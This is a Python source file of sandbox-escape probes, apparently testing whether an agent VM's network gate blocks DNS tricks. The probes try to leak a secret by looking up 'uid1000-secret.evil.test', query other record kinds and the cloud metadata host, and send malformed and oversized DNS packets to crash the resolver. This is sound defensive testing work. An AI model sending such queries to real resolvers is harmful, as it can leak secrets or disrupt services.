"""Attempts on the name server of the sandbox, and to tell secrets in names."""

import os
import socket
import struct

from gate import allowed_host
from network import route
from sockets import has_own_network
from table import NotTried, all_of, probe, refused


def dns_query(name, kind=1, extra=b""):
    """A question for a name."""
    labels = b"".join(bytes([len(label)]) + label for label in name.encode().split(b".") if label)
    return struct.pack(">HHHHHH", 0x4156, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1) + extra


def resolvers():
    """The name servers that programs ask here."""
    with open("/etc/resolv.conf") as lines:
        return [line.split()[1] for line in lines if line.startswith("nameserver") and len(line.split()) > 1]


def ask(message):
    """What the sandbox's name server answers; None for nothing. Others than the gate are never asked: what would be
    asked of them leaves the machine."""
    if not has_own_network():
        raise NotTried("the network is the host's: a question would leave the machine")
    for server in resolvers():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asker:
            asker.settimeout(2)
            try:
                # Connected, so that it hears at once that nobody is there.
                asker.connect((server, 53))
                asker.send(message)
                return asker.recv(4096)
            except OSError:
                continue
    return None


def answered(message):
    """The same. Raises NotTried where the gate's name server, which must be there, does not know the allowed name."""
    if os.environ.get("AGENTVM_PROBE_ALLOWED"):
        answer = ask(dns_query(allowed_host()[0]))
        if answer is None or answer[6:8] == b"\0\0":
            raise NotTried("the name server does not know the allowed name")
    return ask(message)


@probe("dns-exfiltration", "network", "tell secrets in names asked for", "gate")
def _():
    if not has_own_network():
        source, problem = next((route(server) for server in resolvers()), (None, "no name server"))
        return source is None, problem or f"the host's name server {resolvers()[0]} can be asked"
    answer = answered(dns_query("uid1000-secret.evil.test"))
    if answer is None:
        return True, "nobody answers"
    return answer[3] & 15 == 3, f"rcode {answer[3] & 15}"


@probe("dns-kinds", "network", "ask for other records and names", "gate")
def _():
    outcomes = []
    for name, kind in (("secret.evil.test", 16), ("secret.evil.test", 255), ("1.0.0.127.in-addr.arpa", 12),
                       ("localhost", 1), ("secret.evil.test", 65), ("metadata.google.internal", 1)):
        answer = answered(dns_query(name, kind))
        said = "nobody" if answer is None else f"rcode {answer[3] & 15}, {answer[7]} answers"
        outcomes.append((answer is None or answer[6:8] == b"\0\0", f"{name} {kind}: {said}"))
    return all_of(outcomes)


@probe("dns-malformed", "network", "break the name server", "gate")
def _():
    if ask(dns_query("before.evil.test")) is None:
        raise NotTried("there is no name server")
    for message in (b"", b"\0", b"\0" * 12, dns_query("a")[:15], b"\x41\x56\1\0\0\1\0\0\0\0\0\0\xc0\x0c\0\1\0\1",
                    dns_query("a" * 63 + ("." + "b" * 63) * 3), dns_query("x", extra=b"\xff" * 3000),
                    b"\xff" * 4096):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asker:
            for server in resolvers()[:1]:
                refused(lambda: asker.sendto(message, (server, 53)))
    answer = answered(dns_query("after.evil.test"))
    return answer is not None, "it still answers" if answer else "it answers no more"
